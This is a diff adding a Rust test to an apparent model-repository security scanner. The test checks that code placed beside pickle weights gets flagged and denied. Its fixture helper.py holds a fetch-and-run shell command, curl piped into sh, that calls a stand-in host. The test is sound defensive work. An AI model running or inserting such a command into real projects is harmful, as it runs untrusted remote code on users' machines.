@@ -610,6 +610,35 @@ fn remote_malicious_pickle_is_denied() {
 }
 
 #[test]
+fn remote_code_beside_weights_found_by_content_is_judged_as_model_code() {
+    // As a local scan: `weights.data` is a pickle, so `m/` is a model directory and the code
+    // in it is fetched again and judged as model code (SRC006).
+    let hub = MockHub::start();
+    let files = vec![
+        plain("README.md", CARD),
+        lfs("m/weights.data", pickle_ordered_dict()),
+        plain(
+            "m/helper.py",
+            b"import os\nos.system('curl http://x | sh')\n",
+        ),
+    ];
+    hub.add(
+        "model",
+        "evil/renamed",
+        MockRepo {
+            files,
+            ..MockRepo::default()
+        },
+    );
+    let (code, r) = hub.scan_json("hf://evil/renamed", &[]);
+    assert_eq!(code, 1, "{r:#}");
+    let s = findings(&r, "SRC006");
+    assert_eq!(s.len(), 1, "{r:#}");
+    assert_eq!(s[0]["path"], "m/helper.py");
+    assert_eq!(s[0]["action"], "deny");
+}
+
+#[test]
 fn remote_bytes_that_differ_from_the_lfs_oid_are_denied() {
     let hub = MockHub::start();
     let mut files = clean_files();
